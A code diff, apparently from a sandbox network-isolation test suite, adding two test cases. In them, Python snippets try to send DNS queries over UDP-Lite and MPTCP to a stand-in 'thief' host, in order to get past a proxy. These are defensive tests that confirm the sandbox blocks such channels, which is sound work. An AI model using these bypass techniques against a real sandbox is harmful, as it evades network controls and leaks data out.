@@ -84,6 +84,29 @@ s.recv(512)`),
       by: 'connect: each datagram is decided by its own destination',
     },
     {
+      id: 'resolver-udplite',
+      technique: 'query by UDP-Lite to the machine’s resolver, and to the thief',
+      attempt: python(`
+for server in (D4, resolver()):
+    s = made(kind=socket.SOCK_DGRAM, protocol=136)
+    try: s.sendto(query(HOST), (server, 53))
+    except PermissionError as error: print(error)`),
+      twin: python(`ask(query(HOST))`),
+      by: 'connect: the proxy is for UDP and TCP, all else is `EPERM`',
+    },
+    {
+      id: 'resolver-mptcp',
+      technique: 'query over MPTCP to the thief',
+      attempt: python(`
+s = made(protocol=262)
+s.connect((D4, 53))
+message = query(HOST)
+s.sendall(struct.pack('!H', len(message)) + message)
+raise SystemExit(9 if s.recv(512)[5] & 15 == 5 else 0)`),
+      twin: dig('+tcp $HOST'),
+      by: refused,
+    },
+    {
       id: 'resolver-source-port',
       technique: 'query from source port 53 as a server would send',
       as: ['root'],
